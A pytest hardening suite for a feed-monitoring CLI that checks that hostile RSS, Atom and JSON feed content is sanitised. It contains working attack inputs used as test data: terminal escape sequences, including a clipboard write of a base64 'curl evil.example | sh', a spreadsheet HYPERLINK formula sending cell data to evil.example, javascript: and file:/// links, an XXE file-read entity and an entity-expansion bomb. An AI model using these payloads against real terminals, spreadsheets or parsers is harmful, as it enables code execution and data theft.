"""Hostile and odd feed content, through a real fetch: what is stored, and what a terminal receives."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import socket
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from pytest_httpserver import HTTPServer

from mentionscan.delivery.formats.table import DISPLAY_TITLE
from mentionscan.fetching.intake import MAX_TITLE
from tests.conftest import Cli
from tests.hardening_tools import RawServer, http_head, rss, run_mentionscan

RSS_TYPE = "application/rss+xml"
# What must never be stored or printed: C0 but tab and newline, DEL, C1, bidi controls.
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# Every way a title has been seen to attack a terminal: clear screen, retitle the window, write
# the clipboard, an 8-bit CSI, a hyperlink, reversed text, a bell, a NUL.
HOSTILE = (
    "\x1b[2J\x1b[H"
    "\x1b]0;pwned\x07"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x9b31m"
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
    "\u202egnp.exe\u202c"
    "\x07\x00\x7f\x85"
)


def url_for(server: HTTPServer, path: str) -> str:
    return f"http://127.0.0.1:{server.port}{path}"


def serve(server: HTTPServer, path: str, body: bytes, content_type: str = RSS_TYPE) -> str:
    server.expect_request(path).respond_with_data(body, content_type=content_type)
    return url_for(server, path)


def feed_config(write_config, urls: dict[str, str], match: str = "acme") -> Path:
    return write_config({"acme": match}, [{"name": n, "type": "feed", "url": u} for n, u in urls.items()])


def stored_mentions(config: Path) -> list[dict[str, Any]]:
    path = config.parent / "mentions.json"
    return list(json.loads(path.read_bytes())["mentions"].values()) if path.exists() else []


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in strings(k) + strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def xml_text(text: str) -> str:
    """`text` for an XML element: markup characters escaped, control characters as raw bytes."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# Control characters, every field, every format


def hostile_feeds(server: HTTPServer) -> dict[str, str]:
    evil = xml_text(HOSTILE)
    link = "https://blog.example/post\x1b]0;x\x07?id=1"
    rss_body = rss(
        [
            {
                "title": f"acme rss {evil}",
                "link": xml_text(link),
                "guid": f"g-{evil}",
                "description": xml_text(f"<p>body {HOSTILE} &#27;[31m red</p>"),
                "author": f"jane@blog.example (Jane {evil})",
                "category": f"tag{evil}",
            },
            {"title": "acme numeric references &#27;[2J&#x9b;31m&#8238;", "link": "https://blog.example/2"},
        ]
    )
    atom_body = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        f'<entry><id>tag:x,2026:{evil}</id><title type="text">acme atom {evil}</title>'
        f'<link rel="alternate" href="https://forum.example/t/1{xml_text(chr(0x1B))}[31m"/>'
        f"<author><name>Émile {evil}</name><uri>https://forum.example/u/{xml_text(chr(0x9B))}1</uri></author>"
        f'<category term="cat{evil}"/><updated>2026-11-20T11:00:00Z</updated>'
        f'<content type="html">{xml_text("<b>acme</b> " + HOSTILE)}</content></entry></feed>'
    ).encode()
    json_body = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "j",
            "items": [
                {
                    "id": f"j-{HOSTILE}",
                    "url": f"https://micro.example/1{HOSTILE}",
                    "title": f"acme json {HOSTILE}",
                    "content_text": f"text {HOSTILE}",
                    "authors": [{"name": f"Mallory {HOSTILE}", "url": f"https://micro.example/m{HOSTILE}"}],
                    "tags": [f"t{HOSTILE}"],
                }
            ],
        }
    ).encode()
    return {
        "rss": serve(server, "/rss", rss_body),
        "atom": serve(server, "/atom", atom_body, "application/atom+xml"),
        "json": serve(server, "/json", json_body, "application/feed+json"),
    }


def test_control_characters_are_removed_from_every_stored_field_of_every_format(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    config = feed_config(write_config, hostile_feeds(httpserver))
    result = cli("fetch", "--config", str(config), "--format", "json")
    assert result.exit_code == 0, result.stderr
    printed = json.loads(result.stdout)
    assert sorted(m["source"] for m in printed) == ["atom", "json", "rss", "rss"]
    mentions = stored_mentions(config)
    assert len(mentions) == 4
    for mention in mentions:
        for text in strings(mention):
            assert not FORBIDDEN.search(text), (mention["source"], text)
    raw = (config.parent / "mentions.json").read_bytes()
    assert b"\x1b" not in raw and b"\\u001b" not in raw.lower() and "\x9b".encode() not in raw
    by_title = {m["title"].split(" ")[1]: m for m in mentions if m["title"].startswith("acme ")}
    # The readable text around the escapes survives; the escapes, their parameters (a window
    # title, a clipboard payload, a hyperlink target) do not. feedparser turns a C1 byte in XML
    # into its windows-1252 character (0x9b is "›", 0x85 "…"), which is harmless.
    for mention in mentions:
        for text in strings(mention):
            assert not re.search(r"pwned|Y3Vy|evil\.example|\]8;|\]0;|\]52;", text), text
    assert re.fullmatch(r"acme rss (›31m)?clickgnp\.exe…?", by_title["rss"]["title"])
    assert re.fullmatch(r"Jane (›31m)?clickgnp\.exe…?", by_title["rss"]["author"])
    assert re.fullmatch(r"tag(›31m)?clickgnp\.exe…?", by_title["rss"]["tags"][0])
    assert by_title["rss"]["url"] == "https://blog.example/post?id=1"
    assert re.fullmatch(r"acme atom (›31m)?clickgnp\.exe…?", by_title["atom"]["title"])
    assert by_title["atom"]["url"] == "https://forum.example/t/1"
    assert re.fullmatch(r"https://forum\.example/u/›?1", by_title["atom"]["author_url"])
    assert re.fullmatch(r"cat(›31m)?clickgnp\.exe…?", by_title["atom"]["tags"][0])
    assert by_title["json"]["title"] == "acme json clickgnp.exe"
    assert by_title["json"]["url"] == "https://micro.example/1clickgnp.exe"
    assert by_title["json"]["author"] == "Mallory clickgnp.exe"
    assert by_title["json"]["author_url"] == "https://micro.example/mclickgnp.exe"
    assert by_title["json"]["tags"] == ["tclickgnp.exe"]
    assert by_title["json"]["text"] == "text clickgnp.exe"
    assert re.fullmatch(r"acme numeric references (›31m)?", by_title["numeric"]["title"])
    for text in strings(printed):
        assert not FORBIDDEN.search(text)


ESCAPE = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)|.)", re.DOTALL)
SGR = re.compile(r"\x1b\[[0-9;]*m")
HYPERLINK = re.compile(r"\x1b\]8;[^;\x07\x1b]*;(?P<url>[^\x07\x1b]*)\x1b\\")


def escapes_are_only_rich_styling(output: str) -> list[str]:
    """The hyperlink targets in `output`, after checking every escape is a colour or a link."""
    links = []
    for match in ESCAPE.finditer(output):
        sequence = match.group(0)
        if SGR.fullmatch(sequence):
            continue
        link = HYPERLINK.fullmatch(sequence)
        assert link, f"unexpected escape sequence {sequence!r}"
        if link["url"]:
            assert link["url"].startswith(("https://", "http://")), link["url"]
            links.append(link["url"])
    remaining = ESCAPE.sub("", output)
    assert not FORBIDDEN.search(remaining.replace("\r", "")), repr(FORBIDDEN.findall(remaining))
    return links


MARKUP_TITLES = [
    "acme [/] breaks markup",
    "acme [link=https://evil.example/]Your bank[/link]",
    "acme [bold red]loud[/] and [/bold]",
    "acme :warning: [on red]",
]


def test_a_forced_terminal_receives_no_escape_but_richs_own_colours_and_http_links(
    httpserver: HTTPServer, write_config, isolated_home: Path
) -> None:
    urls = hostile_feeds(httpserver)
    urls["markup"] = serve(
        httpserver,
        "/markup",
        rss(
            [{"title": xml_text(t), "link": f"https://m.example/{n}"} for n, t in enumerate(MARKUP_TITLES)]
            + [
                {"title": "acme javascript link", "link": "javascript:alert(document.cookie)"},
                {"title": "acme data link", "link": "data:text/html;base64,PHNjcmlwdD4="},
            ]
        ),
    )
    config = feed_config(write_config, urls)
    terminal = {"TERM": "xterm-256color", "FORCE_COLOR": "1", "COLUMNS": "200", "TTY_COMPATIBLE": "1"}
    fetch = run_mentionscan("fetch", "--config", str(config), home=isolated_home, env=terminal)
    assert fetch.returncode == 0, fetch.stderr
    listed = run_mentionscan("list", "--config", str(config), home=isolated_home, env=terminal)
    assert listed.returncode == 0, listed.stderr
    for output in (fetch.stdout, fetch.stderr, listed.stdout):
        text = output.decode("utf-8")
        links = escapes_are_only_rich_styling(text)
        assert not any("evil.example" in link or "javascript" in link for link in links)
    table = listed.stdout.decode()
    assert SGR.search(table), "the terminal was not forced: this test would prove nothing"
    assert "https://m.example/0" in HYPERLINK.findall(table) or any(
        u.startswith("https://m.example/") for u in HYPERLINK.findall(table)
    )
    plain = ESCAPE.sub("", table)
    for title in MARKUP_TITLES:  # shown as typed
        assert title in plain, title
    assert "acme javascript link" in plain and "acme data link" in plain


def test_rich_markup_in_titles_is_stored_and_printed_as_typed(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    url = serve(
        httpserver,
        "/m",
        rss([{"title": xml_text(t), "link": f"https://m.example/{t[-3:]}"} for t in MARKUP_TITLES]),
    )
    config = feed_config(write_config, {"m": url})
    result = cli("fetch", "--config", str(config), env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.stderr
    for title in MARKUP_TITLES:
        assert title in result.stdout
    assert sorted(m["title"] for m in stored_mentions(config)) == sorted(MARKUP_TITLES)


def test_links_other_than_http_and_https_are_dropped(cli: Cli, httpserver: HTTPServer, write_config) -> None:
    items = [
        {"title": "acme js", "link": "javascript:alert(1)"},
        {"title": "acme data", "link": "data:text/html,hi"},
        {"title": "acme file", "link": "file:///etc/passwd"},
        {"title": "acme vbscript", "link": " VBScript:msgbox(1)"},
        {"title": "acme fine", "link": "https://fine.example/a"},
    ]
    config = feed_config(write_config, {"l": serve(httpserver, "/l", rss(items))})
    records = json.loads(cli("fetch", "--config", str(config), "--format", "json").stdout)
    assert {r["title"]: r["url"] for r in records} == {
        "acme js": "",
        "acme data": "",
        "acme file": "",
        "acme vbscript": "",
        "acme fine": "https://fine.example/a",
    }


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"acme")', "+1 acme", "-2 acme", "@SUM(1) acme"]
    items = [{"title": xml_text(t), "link": f"https://c.example/{n}"} for n, t in enumerate(titles)]
    items.append({"title": "acme by alice", "link": "https://c.example/a", "author": "a@c.example (@alice)"})
    config = feed_config(write_config, {"c": serve(httpserver, "/c", rss(items))})
    fetched = cli("fetch", "--config", str(config), "--format", "csv")
    listed = cli("list", "--config", str(config), "--format", "csv")
    for output in (fetched.stdout, listed.stdout):
        rows = list(csv.DictReader(io.StringIO(output)))
        assert sorted(r["title"] for r in rows) == sorted(["'" + t for t in titles] + ["acme by alice"])
        assert next(r for r in rows if r["title"] == "acme by alice")["author"] == "'@alice"
    as_json = cli.json("list", "--config", str(config), "--format", "json")
    assert sorted(r["title"] for r in as_json) == sorted([*titles, "acme by alice"])  # JSON is untouched


# Encodings


def test_wrong_charsets_utf16_and_bytes_that_are_not_text(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    cp1252 = rss([{"title": "Café – acme’s “news”", "link": "https://e.example/1"}]).decode().encode("cp1252")
    utf16 = (
        rss([{"title": "acme in UTF-16 ✓", "link": "https://e.example/2"}])
        .decode()
        .replace('encoding="utf-8"', 'encoding="utf-16"')
    )
    latin1_header = (
        '<rss version="2.0"><channel><title>t</title><item><title>acme déjà vu</title>'
        "<link>https://e.example/3</link></item></channel></rss>"
    ).encode("latin-1")
    noise = random.Random(7).randbytes(4096)
    urls = {
        "cp1252": serve(httpserver, "/cp1252", cp1252),
        "utf16": serve(httpserver, "/utf16", b"\xff\xfe" + utf16.encode("utf-16-le")),
        "latin1": serve(httpserver, "/latin1", latin1_header, "text/xml; charset=iso-8859-1"),
        "noise": serve(httpserver, "/noise", noise, "application/octet-stream"),
        "badjson": serve(httpserver, "/badjson", b'{"version": "\xff\xfe', "application/feed+json"),
    }
    config = feed_config(write_config, urls)
    result = cli("fetch", "--config", str(config), "--format", "json")
    assert result.exit_code == 3
    titles = sorted(r["title"] for r in json.loads(result.stdout))
    assert titles == sorted(["Café – acme’s “news”", "acme in UTF-16 ✓", "acme déjà vu"])
    assert f"Error: noise: {urls['noise']}: not a feed" in result.stderr
    assert f"Error: badjson: {urls['badjson']}: not a feed (invalid JSON)" in result.stderr
    assert "Traceback" not in result.stderr


# Sizes


def test_very_long_titles_are_cut_in_the_table_and_stored_up_to_their_cap(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    title = "acme " + " ".join(f"word{n}" for n in range(8000))
    config = feed_config(
        write_config,
        {"long": serve(httpserver, "/long", rss([{"title": title, "link": "https://l.example/"}]))},
    )
    assert cli("fetch", "--config", str(config), "--quiet").exit_code == 0
    table = cli("list", "--config", str(config), env={"COLUMNS": "200"}).stdout
    assert "acme word0 word1" in table and "word7999" not in table and "…" in table
    assert len(table.splitlines()) == 2 and max(len(line) for line in table.splitlines()) <= 200
    wide = cli("list", "--config", str(config), "--wide", env={"COLUMNS": "200"}).stdout
    shown = "".join("".join(wide.splitlines()[1:]).split())  # every cell below the header, no spaces
    assert len(wide.splitlines()) == 2 and "word7999" not in wide
    assert DISPLAY_TITLE * 0.7 < len(shown) < DISPLAY_TITLE + 60
    stored = cli.json("list", "--config", str(config), "--format", "json")[0]["title"]
    assert title.startswith(stored[:-1]) and stored.endswith("…") and len(stored) <= MAX_TITLE


# feedparser is handed bytes, never a path or a URL


def test_a_body_that_is_a_local_path_or_a_url_is_never_opened(
    cli: Cli, httpserver: HTTPServer, write_config, tmp_path: Path
) -> None:
    secret = tmp_path / "secret-feed.xml"
    secret.write_bytes(rss([{"title": "acme SECRET-7f3a9c", "link": "https://secret.example/"}]))
    other = serve(httpserver, "/other", rss([{"title": "acme OTHER-51bd", "link": "https://o.example/"}]))
    urls = {
        "path": serve(httpserver, "/path", str(secret).encode()),
        "file-url": serve(httpserver, "/file-url", f"file://{secret}".encode()),
        "http-url": serve(httpserver, "/http-url", other.encode()),
    }
    config = feed_config(write_config, urls)
    result = cli("fetch", "--config", str(config), "--format", "json")
    assert result.exit_code == 3
    assert json.loads(result.stdout) == []
    everything = result.stdout + result.stderr + (config.parent / "mentions.json").read_text()
    assert "SECRET-7f3a9c" not in everything and "OTHER-51bd" not in everything
    assert "/other" not in [r.path for r, _ in httpserver.log]
    for name, url in urls.items():
        assert f"Error: {name}: {url}: not a feed" in result.stderr


# Identity and dates


def test_duplicate_missing_and_changing_guids_neither_duplicate_nor_lose_items(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    def body(run: int) -> bytes:
        return rss(
            [
                {"title": "acme one", "link": "https://g.example/1", "guid": "same"},
                {"title": "acme two", "link": "https://g.example/2", "guid": "same"},
                {"title": "acme one again", "link": "https://g.example/1", "guid": "same"},
                {"title": "acme no guid", "link": "https://g.example/3"},
                {"title": "acme neither link nor guid", "description": "only words about acme"},
                {"title": "acme new guid each time", "link": "https://g.example/4", "guid": f"r-{run}"},
            ]
        )

    for run in (1, 2, 3):
        httpserver.expect_ordered_request("/g").respond_with_data(body(run), content_type=RSS_TYPE)
    config = feed_config(write_config, {"g": url_for(httpserver, "/g")})
    first = cli.json("fetch", "--config", str(config), "--format", "json")
    assert sorted(r["title"] for r in first) == [
        "acme neither link nor guid",
        "acme new guid each time",
        "acme no guid",
        "acme one",
        "acme two",
    ]
    assert cli.json("fetch", "--config", str(config), "--format", "json") == []
    assert cli.json("fetch", "--config", str(config), "--format", "json") == []
    assert len(stored_mentions(config)) == 5


def test_future_and_unparseable_dates(cli: Cli, httpserver: HTTPServer, write_config) -> None:
    items = [
        {
            "title": "acme from the future",
            "link": "https://d.example/f",
            "pubDate": "Fri, 01 Jan 2099 00:00:00 GMT",
        },
        {"title": "acme garbage date", "link": "https://d.example/g", "pubDate": "the day after tomorrow"},
        {
            "title": "acme year zero",
            "link": "https://d.example/z",
            "pubDate": "Mon, 01 Jan 0000 00:00:00 +2500",
        },
        {"title": "acme dated", "link": "https://d.example/d", "pubDate": "Mon, 16 Nov 2026 09:30:00 GMT"},
    ]
    json_feed = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "items": [
                {
                    "id": "1",
                    "title": "acme json future",
                    "url": "https://d.example/jf",
                    "date_published": "2999-01-01T00:00:00Z",
                },
                {
                    "id": "2",
                    "title": "acme json min",
                    "url": "https://d.example/jm",
                    "date_published": "0001-01-01T00:00:00+05:00",
                },
                {
                    "id": "3",
                    "title": "acme json junk",
                    "url": "https://d.example/jj",
                    "date_published": "yesterday",
                },
            ],
        }
    ).encode()
    urls = {
        "d": serve(httpserver, "/d", rss(items)),
        "j": serve(httpserver, "/j", json_feed, "application/feed+json"),
    }
    config = feed_config(write_config, urls)
    result = cli("fetch", "--config", str(config), "--format", "json")
    assert result.exit_code == 0, result.stderr
    records = {r["title"]: r for r in json.loads(result.stdout)}
    assert len(records) == 7
    now = datetime.now(UTC)
    for title in ("acme from the future", "acme json future"):
        published = datetime.fromisoformat(records[title]["published"].replace("Z", "+00:00"))
        assert abs((published - now).total_seconds()) < 120  # sorted as "now", not in 2099
        assert published <= datetime.fromisoformat(records[title]["found_at"].replace("Z", "+00:00"))
    for title in ("acme garbage date", "acme json junk"):
        assert records[title]["published"] is None
    listed = cli.json("list", "--config", str(config), "--format", "json")
    assert len(listed) == 7
    # Newest first: the future-dated items sort with today's, above the November one.
    order = [r["title"] for r in listed]
    assert order.index("acme from the future") < order.index("acme dated")


def test_text_a_server_controls_in_error_messages_reaches_stderr_without_escapes(
    cli: Cli, write_config
) -> None:
    def handler(conn: socket.socket, path: str) -> None:
        if path == "/feed":  # not even UTF-8
            location = "/next\x1b]0;pwned\x07\x1b[2J\x9b31m"
            conn.sendall(http_head("301 Moved", {"Location": location}))
        elif path == "/esc":
            conn.sendall(http_head("302 Found", {"Location": "/next\x1b]0;pwned\x07\x1b[2J"}))
        else:
            conn.sendall(http_head("500 \x1b[31mBroken\x1b[0m", {"Content-Length": "0"}))

    with RawServer(handler) as server:
        config = feed_config(write_config, {"hostile": server.url("/feed"), "esc": server.url("/esc")})
        result = cli("fetch", "--config", str(config))
    assert result.exit_code == 3
    assert f"Error: hostile: {server.url('/feed')}: redirect to an invalid URL" in result.stderr
    assert f"Error: esc: {server.url('/esc')}: redirect to an invalid URL" in result.stderr
    assert server.paths.count("/feed") == 1 and not any(p.startswith("/next") for p in server.paths)
    assert "internal error" not in result.stderr
    assert not FORBIDDEN.search(result.stderr), repr(result.stderr)


def test_status_lines_never_carry_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    # Every stderr line goes through say(); whatever a message quotes, no escape gets through.
    from mentionscan.cli.common import reset_consoles, say

    reset_consoles()
    say(f"Error: src: internal error: KeyError: '{HOSTILE}'")
    reset_consoles()
    err = capsys.readouterr().err
    assert err.startswith("Error: src: internal error: KeyError: '") and "click" in err
    assert not FORBIDDEN.search(err), repr(err)


def test_entity_expansion_and_external_entities_are_never_resolved(
    cli: Cli, httpserver: HTTPServer, write_config, tmp_path: Path
) -> None:
    secret = tmp_path / "hostname"
    secret.write_text("SECRET-HOST-91ab")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]>'
        '<rss version="2.0"><channel><title>t</title>'
        "<item><title>acme &l9;</title><link>https://x.example/1</link></item></channel></rss>"
    ).encode()
    xxe = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file://{secret}">]>'
        '<rss version="2.0"><channel><title>t</title>'
        "<item><title>acme [&x;]</title><link>https://x.example/2</link></item></channel></rss>"
    ).encode()
    urls = {"laughs": serve(httpserver, "/laughs", bomb), "xxe": serve(httpserver, "/xxe", xxe)}
    config = feed_config(write_config, urls)
    started = time.monotonic()
    result = cli("fetch", "--config", str(config), "--format", "json")
    assert time.monotonic() - started < 10
    assert result.exit_code in (0, 3)
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    everything = result.stdout + result.stderr + (config.parent / "mentions.json").read_text()
    assert "SECRET-HOST-91ab" not in everything
    assert "lollollol" not in everything
    assert len((config.parent / "mentions.json").read_bytes()) < 100_000


def test_an_item_that_leaves_the_feed_and_comes_back_is_not_announced_again(
    cli: Cli, httpserver: HTTPServer, write_config
) -> None:
    both = rss(
        [
            {"title": "acme stays", "link": "https://b.example/1"},
            {"title": "acme returns", "link": "https://b.example/2"},
        ]
    )
    one = rss([{"title": "acme stays", "link": "https://b.example/1"}])
    for body in (both, one, both):
        httpserver.expect_ordered_request("/b").respond_with_data(body, content_type=RSS_TYPE)
    config = feed_config(write_config, {"b": url_for(httpserver, "/b")})
    assert len(cli.json("fetch", "--config", str(config), "--format", "json")) == 2
    assert cli.json("fetch", "--config", str(config), "--format", "json") == []
    assert cli.json("fetch", "--config", str(config), "--format", "json") == []
    assert len(stored_mentions(config)) == 2
